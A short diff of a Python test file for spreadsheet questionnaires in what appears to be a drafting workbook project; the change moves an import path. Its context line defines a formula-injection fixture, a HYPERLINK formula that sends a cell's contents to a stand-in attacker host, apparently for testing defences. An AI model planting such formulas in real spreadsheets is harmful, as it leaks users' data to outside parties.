@@ -31,7 +31,7 @@ FORMULA = '=HYPERLINK("http://evil.example?"&A1,"点我")'
 @pytest.fixture
 def questionnaire(tmp_path: Path) -> bytes:
     """A filled questionnaire as an expert would return it."""
-    from drafting.workbook.delphi_questionnaires import write_allocation_questionnaire
+    from drafting.workbook.questionnaires.delphi_questionnaires import write_allocation_questionnaire
 
     blank, filled = tmp_path / "blank.xlsx", tmp_path / "filled.xlsx"
     system = inputs().system
